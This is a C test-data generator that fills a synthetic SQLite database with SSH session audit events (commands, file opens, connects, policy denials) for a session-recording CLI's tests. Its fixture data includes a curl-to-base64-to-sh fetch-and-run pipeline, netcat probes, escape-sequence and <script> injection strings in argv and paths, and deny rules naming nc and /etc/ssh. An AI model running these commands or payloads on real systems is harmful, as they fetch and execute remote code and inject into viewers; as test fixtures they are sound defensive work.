/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * gen_db: write a synthetic sshrec database following schema/sshrec.sql,
 * for the CLI's unit/e2e tests (deterministic: same arguments, same bytes of
 * output from the CLI) and its benchmark.
 *
 * usage: gen_db -o DB -s SCHEMA.sql [-n SESSIONS] [-e EVENTS] [-b BIGTREE]
 *               [--hostile] [--seed N]
 *   -n  sessions (default 3); -e  total events across them (default 300);
 *   -b  add one more session with this many processes (wide, 3 levels deep);
 *   --hostile  session 0 also runs programs with escape sequences, <script>,
 *              quotes and newlines in argv and paths, and the session policy's
 *              denials (a killed exec, an audited connect, a refused write).
 * Sessions: logins alice, bob, carol, root, deploy, …; realistic trees (login
 * shell, pipelines like curl … | base64 -d | sh, failed execs, killed jobs),
 * file opens and TCP connects. One transaction, prepared statements.
 */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <sqlite3.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "timeutil.h"

#define BASE_US 1767600000000000LL /* 2026-01-05T08:00:00Z */

static uint64_t rng = 0x9e3779b97f4a7c15ULL;

static uint64_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}

static unsigned pick(unsigned n)
{
	return (unsigned)(rnd() % n);
}

/* A growing string buffer for JSON. */
struct sb {
	char *b;
	size_t n, cap;
};

static void sb_add(struct sb *s, const char *p, size_t l)
{
	if (s->n + l + 1 > s->cap) {
		while (s->n + l + 1 > s->cap)
			s->cap = s->cap ? s->cap * 2 : 4096;
		s->b = realloc(s->b, s->cap);
		if (!s->b) {
			fprintf(stderr, "gen_db: out of memory\n");
			exit(1);
		}
	}
	memcpy(s->b + s->n, p, l);
	s->n += l;
	s->b[s->n] = '\0';
}

static void sb_printf(struct sb *s, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void sb_printf(struct sb *s, const char *fmt, ...)
{
	char tmp[1024];
	va_list ap;
	int l;

	va_start(ap, fmt);
	l = vsnprintf(tmp, sizeof(tmp), fmt, ap);
	va_end(ap);
	sb_add(s, tmp, (size_t)l < sizeof(tmp) ? (size_t)l : sizeof(tmp) - 1);
}

/* JSON string (input is valid UTF-8: strings are pre-sanitized). */
static void sb_jstr(struct sb *s, const char *v)
{
	const unsigned char *p = (const unsigned char *)v;

	if (!v) {
		sb_add(s, "null", 4);
		return;
	}
	sb_add(s, "\"", 1);
	for (; *p; p++) {
		if (*p == '"' || *p == '\\') {
			char e[2] = {'\\', (char)*p};

			sb_add(s, e, 2);
		} else if (*p < 0x20 || *p == 0x7f) {
			sb_printf(s, "\\u%04x", *p);
		} else {
			sb_add(s, (const char *)p, 1);
		}
	}
	sb_add(s, "\"", 1);
}

struct sess {
	int64_t id;
	char sid[40], login[32], remote[32];
	int64_t start_us, t;
	int64_t ei;
	int rport;
	int64_t counts[6]; /* command disk network exit escape denied */
};

struct proc {
	int64_t id, parent_id, start_us;
	int pid, ppid;
	const char *path;
	char argv_json[2048];
	const char *cwd;
	int rc;
	int64_t exec_ei;
};

static sqlite3 *db;
static sqlite3_stmt *ins_ev, *ins_proc, *ins_sess;
static int64_t next_proc_id = 1;
static int64_t step_us = 1000;
static const char *server_id = "4f1c2a9e-8b7d-4e21-9a55-0c3b6d2e7f10";
static const char *server_host = "bastion-1";

static void check(int rc, const char *what)
{
	if (rc != SQLITE_OK && rc != SQLITE_DONE && rc != SQLITE_ROW) {
		fprintf(stderr, "gen_db: %s: %s\n", what, sqlite3_errmsg(db));
		exit(1);
	}
}

static void uuid4(char out[40])
{
	uint64_t a = rnd(), b = rnd();

	snprintf(out, 40, "%08x-%04x-4%03x-%04x-%012" PRIx64, (unsigned)(a >> 32),
	         (unsigned)(a >> 16) & 0xffff, (unsigned)a & 0xfff,
	         (unsigned)(0x8000 | ((b >> 48) & 0x3fff)), (uint64_t)(b & 0xffffffffffffULL));
}

/* Common fields; caller appends the rest and the closing brace. */
static void common(struct sb *j, struct sess *s, const char *ev, const char *code, int pid,
                   int ppid, const char *prog, char uid[40])
{
	char t[SR_TIME_STRLEN];

	uuid4(uid);
	j->n = 0;
	sb_printf(j,
	          "{\"event\":\"%s\",\"code\":\"%s\",\"time\":\"%s\",\"ei\":%" PRId64
	          ",\"uid\":\"%s\",\"sid\":\"%s\",\"server_id\":\"%s\",\"server_hostname\":\"%s\","
	          "\"login\":",
	          ev, code, sr_time_format(s->t, t), s->ei, uid, s->sid, server_id, server_host);
	sb_jstr(j, s->login);
	sb_add(j, ",\"user\":", 8);
	sb_printf(j, "\"SHA256:%s%.30s\"", s->login, "Zk3bQ8mWl2vT0yHq9xR4uN7cE1pA6sD");
	sb_printf(j,
	          ",\"cgroup_id\":%" PRId64 ",\"audit_session_id\":%" PRId64
	          ",\"pid\":%d,\"ppid\":%d,\"program\":",
	          10000 + s->id % 100000, s->id % 100000, pid, ppid);
	sb_jstr(j, prog ? prog : "");
}

static void insert_event(struct sess *s, const char *ev, const char *code, const char *uid, int pid,
                         int64_t process_id, const char *prog, const char *path, const char *dst,
                         int port, bool has_rc, int64_t rc, struct sb *j)
{
	sqlite3_stmt *st = ins_ev;

	sqlite3_reset(st);
	sqlite3_bind_int64(st, 1, s->id);
	sqlite3_bind_int64(st, 2, s->ei);
	sqlite3_bind_int64(st, 3, s->t);
	sqlite3_bind_text(st, 4, ev, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 5, code, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 6, uid, -1, SQLITE_TRANSIENT);
	if (pid)
		sqlite3_bind_int(st, 7, pid);
	else
		sqlite3_bind_null(st, 7);
	if (process_id)
		sqlite3_bind_int64(st, 8, process_id);
	else
		sqlite3_bind_null(st, 8);
	if (prog)
		sqlite3_bind_text(st, 9, prog, -1, SQLITE_STATIC);
	else
		sqlite3_bind_null(st, 9);
	if (path)
		sqlite3_bind_text(st, 10, path, -1, SQLITE_TRANSIENT);
	else
		sqlite3_bind_null(st, 10);
	if (dst) {
		sqlite3_bind_text(st, 11, dst, -1, SQLITE_STATIC);
		sqlite3_bind_int(st, 12, port);
	} else {
		sqlite3_bind_null(st, 11);
		sqlite3_bind_null(st, 12);
	}
	if (has_rc)
		sqlite3_bind_int64(st, 13, rc);
	else
		sqlite3_bind_null(st, 13);
	sqlite3_bind_text(st, 14, j->b, (int)j->n, SQLITE_STATIC);
	check(sqlite3_step(st), "insert event");
	s->ei++;
	s->t += step_us / 2 + (int64_t)pick((unsigned)step_us + 1);
}

static const char *base_name(const char *p)
{
	const char *s = strrchr(p, '/');

	return s ? s + 1 : p;
}

/* argv given as NULL-terminated list */
static void exec_proc(struct sess *s, struct proc *p, const struct proc *parent, int pid,
                      const char *path, const char *cwd, int rc, const char *const *argv,
                      struct sb *j)
{
	struct sb a = {0};
	char uid[40];
	size_t i;

	memset(p, 0, sizeof(*p));
	p->id = next_proc_id++;
	p->parent_id = parent ? parent->id : 0;
	p->pid = pid;
	p->ppid = parent ? parent->pid : 900;
	p->path = path;
	p->cwd = cwd;
	p->rc = rc;
	p->start_us = s->t;
	p->exec_ei = s->ei;
	sb_add(&a, "[", 1);
	for (i = 0; argv[i]; i++) {
		if (i)
			sb_add(&a, ",", 1);
		sb_jstr(&a, argv[i]);
	}
	sb_add(&a, "]", 1);
	snprintf(p->argv_json, sizeof(p->argv_json), "%s", a.b);
	free(a.b);
	common(j, s, "session.command", "T4000I", pid, p->ppid, base_name(path), uid);
	sb_add(j, ",\"path\":", 8);
	sb_jstr(j, path);
	/* the record's argv leaves argv[0] out (Teleport), argv0 carries it */
	sb_add(j, ",\"argv\":[", 9);
	for (i = 1; argv[0] && argv[i]; i++) {
		if (i > 1)
			sb_add(j, ",", 1);
		sb_jstr(j, argv[i]);
	}
	sb_add(j, "],\"argv0\":", 10);
	sb_jstr(j, argv[0]);
	sb_printf(j, ",\"argv_truncated\":false,\"return_code\":%d,\"cwd\":", rc);
	sb_jstr(j, cwd);
	sb_printf(j,
	          ",\"proc_uid\":1000,\"proc_gid\":1000,\"proc_euid\":1000,\"proc_egid\":1000,"
	          "\"process_id\":%" PRId64 ",\"parent_process_id\":",
	          p->id);
	if (p->parent_id)
		sb_printf(j, "%" PRId64 "}", p->parent_id);
	else
		sb_add(j, "null}", 5);
	insert_event(s, "session.command", "T4000I", uid, pid, p->id, base_name(path), path, NULL,
	             0, true, rc, j);
	s->counts[0]++;
}

static void disk(struct sess *s, const struct proc *p, const char *path, int flags,
                 const char *ftext, int rc, struct sb *j)
{
	char uid[40];

	common(j, s, "session.disk", "T4001I", p->pid, p->ppid, base_name(p->path), uid);
	sb_add(j, ",\"path\":", 8);
	sb_jstr(j, path);
	sb_printf(j,
	          ",\"flags\":%d,\"flags_text\":\"%s\",\"mode\":%d,\"return_code\":%d,"
	          "\"path_resolved\":false,\"process_id\":%" PRId64 "}",
	          flags, ftext, flags & 0100 ? 0644 : 0, rc, p->id);
	insert_event(s, "session.disk", "T4001I", uid, p->pid, p->id, base_name(p->path), path,
	             NULL, 0, true, rc, j);
	s->counts[1]++;
}

static void net(struct sess *s, const struct proc *p, const char *dst, int port, const char *result,
                struct sb *j)
{
	char uid[40];

	common(j, s, "session.network", "T4002I", p->pid, p->ppid, base_name(p->path), uid);
	sb_printf(
	    j,
	    ",\"src_addr\":\"10.0.0.4\",\"src_port\":%u,\"dst_addr\":\"%s\",\"dst_port\":%d,"
	    "\"version\":4,\"operation\":0,\"action\":0,\"result\":\"%s\",\"process_id\":%" PRId64
	    "}",
	    40000 + pick(20000), dst, port, result, p->id);
	insert_event(s, "session.network", "T4002I", uid, p->pid, p->id, base_name(p->path), NULL,
	             dst, port, false, 0, j);
	s->counts[2]++;
}

/* A session.denied record of @p p: a path (exec, write) or a destination (connect). */
static void denied(struct sess *s, const struct proc *p, const char *action, const char *target,
                   const char *dst, int port, const char *rule, const char *mode, const char *mech,
                   const char *effect, struct sb *j)
{
	bool net = dst != NULL, write = !strcmp(action, "write");
	char uid[40];

	common(j, s, "session.denied", "SR4020W", p->pid, p->ppid, base_name(p->path), uid);
	/* action: Teleport's EventAction, 1 when the verdict was applied */
	sb_printf(j, ",\"kind\":\"%s\",\"action\":%d,\"target\":", action,
	          strcmp(effect, "audit") && strcmp(effect, "not_applied") ? 1 : 0);
	sb_jstr(j, target);
	sb_add(j, ",\"path\":", 8);
	if (net)
		sb_printf(j, "null,\"dst_addr\":\"%s\",\"dst_port\":%d,\"version\":4", dst, port);
	else {
		sb_jstr(j, target);
		sb_printf(j, ",\"dst_addr\":null,\"dst_port\":null,\"version\":null");
	}
	sb_printf(j, ",\"flags_text\":%s,\"rule\":", write ? "\"O_WRONLY|O_TRUNC\"" : "null");
	sb_jstr(j, rule);
	sb_printf(
	    j,
	    ",\"policy_mode\":\"%s\",\"mechanism\":\"%s\",\"effect\":\"%s\",\"process_id\":%" PRId64
	    "}",
	    mode, mech, effect, p->id);
	insert_event(s, "session.denied", "SR4020W", uid, p->pid, p->id, base_name(p->path),
	             net ? NULL : target, dst, port, false, 0, j);
	s->counts[5]++;
}

static void exit_proc(struct sess *s, const struct proc *p, int code, int sig, struct sb *j)
{
	char uid[40];
	int64_t dur = (s->t - p->start_us) / 1000;

	common(j, s, "session.process_exit", "SR4010I", p->pid, p->ppid, base_name(p->path), uid);
	if (sig)
		sb_printf(j, ",\"exit_code\":null,\"signal\":%d", sig);
	else
		sb_printf(j, ",\"exit_code\":%d,\"signal\":0", code);
	sb_printf(j, ",\"duration_ms\":%" PRId64 ",\"process_id\":%" PRId64 "}", dur, p->id);
	insert_event(s, "session.process_exit", "SR4010I", uid, p->pid, p->id, base_name(p->path),
	             NULL, NULL, 0, false, 0, j);
	s->counts[3]++;
	/* the processes row, complete now */
	sqlite3_stmt *st = ins_proc;
	sqlite3_reset(st);
	sqlite3_bind_int64(st, 1, p->id);
	sqlite3_bind_int64(st, 2, s->id);
	if (p->parent_id)
		sqlite3_bind_int64(st, 3, p->parent_id);
	else
		sqlite3_bind_null(st, 3);
	sqlite3_bind_int(st, 4, p->pid);
	sqlite3_bind_int(st, 5, p->ppid);
	sqlite3_bind_text(st, 6, base_name(p->path), -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 7, p->path, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 8, p->argv_json, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 9, p->cwd, -1, SQLITE_STATIC);
	sqlite3_bind_int(st, 10, p->rc);
	sqlite3_bind_int64(st, 11, p->start_us);
	sqlite3_bind_int64(st, 12, s->t);
	if (sig)
		sqlite3_bind_null(st, 13);
	else
		sqlite3_bind_int(st, 13, code);
	sqlite3_bind_int(st, 14, sig);
	sqlite3_bind_int64(st, 15, dur);
	sqlite3_bind_int64(st, 16, p->exec_ei);
	check(sqlite3_step(st), "insert process");
}

static void session_start(struct sess *s, int i, struct sb *j)
{
	static const char *const logins[] = {"alice",  "bob",  "carol", "root",
	                                     "deploy", "dave", "erin",  "frank"};
	char uid[40];
	uint64_t key;

	key = ((uint64_t)(s->start_us / 1000) << 15) | (uint64_t)(i & 0x7fff);
	s->id = (int64_t)(key & 0x7fffffffffffffffULL);
	snprintf(s->sid, sizeof(s->sid), "%08" PRIx64 "-%04" PRIx64 "-7%03x-%04x-%012" PRIx64,
	         (uint64_t)(s->start_us / 1000) >> 16, (uint64_t)(s->start_us / 1000) & 0xffff,
	         (unsigned)(i & 0xfff), 0x8000u | (unsigned)((i >> 12) & 0x3fff),
	         (uint64_t)(rnd() & 0xffffffffffffULL));
	snprintf(s->login, sizeof(s->login), "%s", logins[i % 8]);
	snprintf(s->remote, sizeof(s->remote), "192.0.2.%d", 10 + i % 200);
	s->rport = 50000 + i % 10000;
	common(j, s, "session.start", "T2000I", 800 + i % 30000, 1, "sshd", uid);
	sb_printf(
	    j,
	    ",\"addr.remote\":\"%s:%d\",\"addr.local\":\"10.0.0.4:22\",\"tty\":\"/dev/pts/%d\","
	    "\"service\":\"sshd\",\"rhost\":\"%s\",\"auth\":{\"method\":\"publickey\","
	    "\"key_type\":\"ssh-ed25519\",\"fingerprint\":\"SHA256:%s%.30s\"},"
	    "\"cgroup_path\":\"/sshrec/%s\",\"capture_backend\":\"tracepoint\"}",
	    s->remote, s->rport, i % 8, s->remote, s->login, "Zk3bQ8mWl2vT0yHq9xR4uN7cE1pA6sD",
	    s->sid);
	insert_event(s, "session.start", "T2000I", uid, 800 + i % 30000, 0, "sshd", NULL, NULL, 0,
	             false, 0, j);
}

static void session_end(struct sess *s, int i, struct sb *j)
{
	char uid[40], a[SR_TIME_STRLEN], b[SR_TIME_STRLEN], fp[80];
	sqlite3_stmt *st = ins_sess;

	common(j, s, "session.end", "T2004I", 800 + i % 30000, 1, "sshd", uid);
	sb_printf(
	    j,
	    ",\"session_start\":\"%s\",\"session_stop\":\"%s\",\"counts\":{\"command\":%" PRId64
	    ",\"disk\":%" PRId64 ",\"network\":%" PRId64 ",\"process_exit\":%" PRId64
	    ",\"escape\":0,\"denied\":%" PRId64 "},\"lost\":0,\"enhanced_recording\":true,"
	    "\"interactive\":true,\"participants\":[\"SHA256:%s%.30s\"]}",
	    sr_time_format(s->start_us, a), sr_time_format(s->t, b), s->counts[0], s->counts[1],
	    s->counts[2], s->counts[3], s->counts[5], s->login, "Zk3bQ8mWl2vT0yHq9xR4uN7cE1pA6sD");
	insert_event(s, "session.end", "T2004I", uid, 800 + i % 30000, 0, "sshd", NULL, NULL, 0,
	             false, 0, j);
	snprintf(fp, sizeof(fp), "SHA256:%s%.30s", s->login, "Zk3bQ8mWl2vT0yHq9xR4uN7cE1pA6sD");
	sqlite3_reset(st);
	sqlite3_bind_int64(st, 1, s->id);
	sqlite3_bind_text(st, 2, s->sid, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 3, server_id, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 4, server_host, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 5, s->login, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 6, fp, -1, SQLITE_TRANSIENT);
	sqlite3_bind_text(st, 7, s->remote, -1, SQLITE_STATIC);
	sqlite3_bind_int(st, 8, s->rport);
	sqlite3_bind_text(st, 9, "ssh-ed25519", -1, SQLITE_STATIC);
	sqlite3_bind_int(st, 10, 800 + i % 30000);
	sqlite3_bind_int64(st, 11, s->start_us);
	sqlite3_bind_int64(st, 12, s->t);
	sqlite3_bind_int64(st, 13, s->ei);
	sqlite3_bind_int64(st, 14, s->counts[0]);
	sqlite3_bind_int64(st, 15, s->counts[1]);
	sqlite3_bind_int64(st, 16, s->counts[2]);
	sqlite3_bind_int64(st, 17, s->counts[3]);
	sqlite3_bind_text(st, 18, "/dev/pts/0", -1, SQLITE_STATIC);
	sqlite3_bind_int64(st, 19, s->counts[5]);
	check(sqlite3_step(st), "insert session");
}

#define ARGV(...) ((const char *const[]){__VA_ARGS__, NULL})

/* One unit of shell activity under @p sh (the @p nth of its session). */
static void activity(struct sess *s, const struct proc *sh, int *pid, int nth, struct sb *j)
{
	/* every session starts with each kind once (simple, pipeline, failed
	 * exec, failed connect, killed job), then picks at random */
	static const unsigned first[] = {0, 5, 7, 8, 9};
	static const char *const simple[][4] = {
	    {"/usr/bin/ls", "ls", "-la", "/etc"},
	    {"/usr/bin/cat", "cat", "/etc/hostname", NULL},
	    {"/usr/bin/ps", "ps", "aux", NULL},
	    {"/usr/bin/df", "df", "-h", NULL},
	    {"/usr/bin/uname", "uname", "-a", NULL},
	    {"/usr/bin/git", "git", "status", NULL},
	    {"/usr/bin/grep", "grep", "-r", "password"},
	    {"/usr/bin/vim", "vim", "notes.txt", NULL},
	};
	static const char *const files[] = {
	    "/etc/passwd",         "/etc/hostname",   "/etc/ld.so.cache",
	    "/home/app/notes.txt", "/var/log/syslog", "/etc/ssl/certs/ca-certificates.crt"};
	struct proc a, b, c, d;
	unsigned r = nth < 5 ? first[nth] : pick(10), k, n;

	if (r < 5) {
		const char *const *cmd = simple[pick(8)];
		const char *argv[4] = {cmd[1], cmd[2], cmd[3], NULL};

		exec_proc(s, &a, sh, (*pid)++, cmd[0], "/home/app", 0, argv, j);
		disk(s, &a, "/etc/ld.so.cache", 02000000, "O_RDONLY|O_CLOEXEC", 3, j);
		n = pick(3);
		for (k = 0; k < n; k++)
			disk(s, &a, files[pick(6)], 0, "O_RDONLY", 3 + (int)k, j);
		exit_proc(s, &a, pick(6) == 0 ? 1 : 0, 0, j);
	} else if (r < 7) {
		exec_proc(s, &a, sh, (*pid)++, "/usr/bin/curl", "/home/app", 0,
		          ARGV("curl", "-s", "http://203.0.113.10/x.sh"), j);
		exec_proc(s, &b, sh, (*pid)++, "/usr/bin/base64", "/home/app", 0,
		          ARGV("base64", "-d"), j);
		exec_proc(s, &c, sh, (*pid)++, "/usr/bin/sh", "/home/app", 0, ARGV("sh"), j);
		net(s, &a, "203.0.113.10", 80, "established", j);
		exit_proc(s, &a, 0, 0, j);
		exit_proc(s, &b, 0, 0, j);
		exec_proc(s, &d, &c, (*pid)++, "/usr/bin/id", "/home/app", 0, ARGV("id"), j);
		exit_proc(s, &d, 0, 0, j);
		exec_proc(s, &d, &c, (*pid)++, "/usr/bin/chmod", "/home/app", 0,
		          ARGV("chmod", "+x", "/tmp/.x"), j);
		disk(s, &d, "/tmp/.x", 0101, "O_WRONLY|O_CREAT", 3, j);
		exit_proc(s, &d, 0, 0, j);
		exit_proc(s, &c, 0, 0, j);
	} else if (r == 7) {
		exec_proc(s, &a, sh, (*pid)++, "/usr/bin/nosuchcmd", "/home/app", -2,
		          ARGV("nosuchcmd", "--flag"), j);
		exit_proc(s, &a, 127, 0, j);
	} else if (r == 8) {
		exec_proc(s, &a, sh, (*pid)++, "/usr/bin/nc", "/home/app", 0,
		          ARGV("nc", "-z", "198.51.100.20", "5432"), j);
		net(s, &a, "198.51.100.20", 5432, "failed", j);
		exit_proc(s, &a, 1, 0, j);
	} else {
		exec_proc(s, &a, sh, (*pid)++, "/usr/bin/sleep", "/home/app", 0,
		          ARGV("sleep", "600"), j);
		exit_proc(s, &a, 0, 9, j);
	}
}

static void hostile(struct sess *s, const struct proc *sh, int *pid, struct sb *j)
{
	struct proc a;

	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/printf", "/home/app", 0,
	          ARGV("printf", "\033]0;pwned\007"), j);
	exit_proc(s, &a, 0, 0, j);
	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/touch", "/home/app", 0,
	          ARGV("touch", "<script>document.title='pwned'</script>", "it's\nnew\\xff"), j);
	disk(s, &a, "/home/app/<script>document.title='pwned'</script>", 0101, "O_WRONLY|O_CREAT",
	     3, j);
	disk(s, &a, "/home/app/\033[2J\033[31mred", 0101, "O_WRONLY|O_CREAT", 4, j);
	exit_proc(s, &a, 0, 0, j);
}

/*
 * The session policy at work (after the hostile session's activity, on an
 * RNG stream of its own, so every other session comes out as it always did):
 * a killed exec, an audited connect, a refused write.
 */
static void policy_hits(struct sess *s, const struct proc *sh, int *pid, struct sb *j)
{
	uint64_t saved = rng;
	struct proc a;

	rng ^= 0x5eedc0ffee15deadULL;
	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/nc", "/home/app", 0, ARGV("nc", "10.0.0.9", "22"),
	          j);
	denied(s, &a, "exec", "/usr/bin/nc", NULL, 0, "deny_exec.group.contractors = /usr/bin/nc",
	       "enforced", "signal", "killed", j);
	exit_proc(s, &a, 0, 9, j);
	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/curl", "/home/app", 0,
	          ARGV("curl", "http://10.0.0.9/"), j);
	denied(s, &a, "connect", "10.0.0.9:80", "10.0.0.9", 80, "deny_connect = 10.0.0.0/8",
	       "audit", "signal", "audit", j);
	exit_proc(s, &a, 0, 0, j);
	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/tee", "/home/app", 0,
	          ARGV("tee", "/etc/ssh/sshd_config"), j);
	denied(s, &a, "write", "/etc/ssh/sshd_config", NULL, 0, "deny_write = /etc/ssh/*",
	       "enforced", "lsm", "blocked", j);
	exit_proc(s, &a, 1, 0, j);
	rng = saved;
}

static void gen_session(int i, int64_t budget, int big, bool host, struct sb *j)
{
	struct sess s = {0};
	struct proc sh, sudo;
	int pid = 2000 + (i % 1000) * 30;

	s.start_us = BASE_US + (int64_t)i * 60000000LL;
	s.t = s.start_us;
	session_start(&s, i, j);
	exec_proc(&s, &sh, NULL, pid++, "/usr/bin/bash", "/home/app", 0, ARGV("-bash"), j);
	disk(&s, &sh, "/home/app/.bashrc", 0, "O_RDONLY", 3, j);
	if (host)
		hostile(&s, &sh, &pid, j);
	if (big > 0) {
		int made = 0, m;
		struct proc mk, cc;

		while (made < big) {
			exec_proc(&s, &mk, &sh, pid++, "/usr/bin/make", "/home/app/src", 0,
			          ARGV("make", "-j4"), j);
			made++;
			for (m = 0; m < 99 && made < big; m++, made++) {
				char obj[32];

				snprintf(obj, sizeof(obj), "unit%d.c", made);
				exec_proc(&s, &cc, &mk, pid++, "/usr/bin/cc", "/home/app/src", 0,
				          ARGV("cc", "-O2", "-c", obj), j);
				exit_proc(&s, &cc, 0, 0, j);
			}
			exit_proc(&s, &mk, 0, 0, j);
		}
	} else {
		int nth = 0;

		while (s.ei + 14 < budget)
			activity(&s, &sh, &pid, nth++, j);
		if (pick(4) == 0) {
			exec_proc(&s, &sudo, &sh, pid++, "/usr/bin/sudo", "/home/app", 0,
			          ARGV("sudo", "systemctl", "restart", "nginx"), j);
			exit_proc(&s, &sudo, 0, 0, j);
		}
		if (host)
			policy_hits(&s, &sh, &pid, j);
	}
	exit_proc(&s, &sh, 0, 0, j);
	session_end(&s, i, j);
}

static char *slurp(const char *path)
{
	FILE *f = fopen(path, "r");
	char *b;
	long n;

	if (!f)
		return NULL;
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	rewind(f);
	b = malloc((size_t)n + 1);
	if (b && fread(b, 1, (size_t)n, f) != (size_t)n) {
		free(b);
		b = NULL;
	}
	if (b)
		b[n] = '\0';
	fclose(f);
	return b;
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
	    {"hostile", no_argument, NULL, 'H'},
	    {"seed", required_argument, NULL, 'S'},
	    {NULL, 0, NULL, 0},
	};
	const char *out = NULL, *schema = NULL;
	long sessions = 3, big = 0;
	long long events = 300;
	bool host = false;
	struct sb j = {0};
	char *sql, *err = NULL;
	int c, i;

	while ((c = getopt_long(argc, argv, "o:s:n:e:b:", opts, NULL)) != -1) {
		switch (c) {
		case 'o':
			out = optarg;
			break;
		case 's':
			schema = optarg;
			break;
		case 'n':
			sessions = strtol(optarg, NULL, 10);
			break;
		case 'e':
			events = strtoll(optarg, NULL, 10);
			break;
		case 'b':
			big = strtol(optarg, NULL, 10);
			break;
		case 'H':
			host = true;
			break;
		case 'S':
			rng = strtoull(optarg, NULL, 10) | 1;
			break;
		default:
			fprintf(stderr,
			        "usage: gen_db -o DB -s SCHEMA.sql [-n SESSIONS] [-e EVENTS] "
			        "[-b BIGTREE] [--hostile] [--seed N]\n");
			return 2;
		}
	}
	if (!out || !schema || sessions < 1 || events < sessions * 20) {
		fprintf(stderr, "gen_db: need -o DB -s SCHEMA.sql, SESSIONS >= 1 and EVENTS >= 20 "
		                "per session\n");
		return 2;
	}
	sql = slurp(schema);
	if (!sql) {
		fprintf(stderr, "gen_db: cannot read %s: %s\n", schema, strerror(errno));
		return 1;
	}
	remove(out);
	if (sqlite3_open(out, &db) != SQLITE_OK) {
		fprintf(stderr, "gen_db: cannot create %s\n", out);
		return 1;
	}
	check(sqlite3_exec(db,
	                   "PRAGMA journal_mode=OFF; PRAGMA synchronous=OFF; "
	                   "PRAGMA cache_size=-262144; PRAGMA temp_store=MEMORY;",
	                   NULL, NULL, &err),
	      "pragmas");
	if (sqlite3_exec(db, sql, NULL, NULL, &err) != SQLITE_OK) {
		fprintf(stderr, "gen_db: schema: %s\n", err);
		return 1;
	}
	free(sql);
	check(sqlite3_exec(db, "BEGIN", NULL, NULL, NULL), "begin");
	check(sqlite3_prepare_v2(
	          db,
	          "INSERT INTO events (session_id, ei, time_us, event, code, uid, pid, "
	          "process_id, program, path, dst_addr, dst_port, return_code, json) "
	          "VALUES (?1,?2,?3,?4,?5,?6,?7,?8,?9,?10,?11,?12,?13,?14)",
	          -1, &ins_ev, NULL),
	      "prepare events");
	check(sqlite3_prepare_v2(
	          db,
	          "INSERT INTO processes (id, session_id, parent_id, pid, ppid, program, "
	          "path, argv, argv_truncated, cwd, uid, gid, return_code, start_us, "
	          "end_us, exit_code, signal, duration_ms, exec_ei) VALUES (?1,?2,?3,"
	          "?4,?5,?6,?7,?8,0,?9,1000,1000,?10,?11,?12,?13,?14,?15,?16)",
	          -1, &ins_proc, NULL),
	      "prepare processes");
	check(
	    sqlite3_prepare_v2(db,
	                       "INSERT INTO sessions (id, sid, server_id, server_hostname, login, "
	                       "user, service, tty, rhost, remote_addr, remote_port, local_addr, "
	                       "local_port, auth_method, key_type, key_fingerprint, leader_pid, "
	                       "cgroup_id, cgroup_path, audit_session_id, start_us, closing_us, "
	                       "end_us, state, next_ei, n_command, n_disk, n_network, n_exit, "
	                       "n_escape, lost, n_denied) VALUES (?1,?2,?3,?4,?5,?6,'sshd',?18,?7,"
	                       "?7,?8,'10.0.0.4',22,'publickey',?9,?6,?10,0,'/sshrec/x',?10,?11,"
	                       "?12,?12,'ended',?13,?14,?15,?16,?17,0,0,?19)",
	                       -1, &ins_sess, NULL),
	    "prepare sessions");
	step_us = 50000000LL / (events / sessions + 1);
	if (step_us < 2)
		step_us = 2;
	for (i = 0; i < sessions; i++) {
		gen_session(i, events / sessions, 0, host && i == 0, &j);
		if (sessions >= 1000 && i % 1000 == 999)
			fprintf(stderr, "gen_db: %d sessions\n", i + 1);
	}
	if (big > 0) {
		step_us = 200;
		gen_session((int)sessions, 0, (int)big, false, &j);
	}
	sqlite3_finalize(ins_ev);
	sqlite3_finalize(ins_proc);
	sqlite3_finalize(ins_sess);
	check(sqlite3_exec(db, "COMMIT", NULL, NULL, NULL), "commit");
	check(sqlite3_exec(db, "PRAGMA journal_mode=WAL;", NULL, NULL, NULL), "wal");
	sqlite3_close(db);
	free(j.b);
	return 0;
}
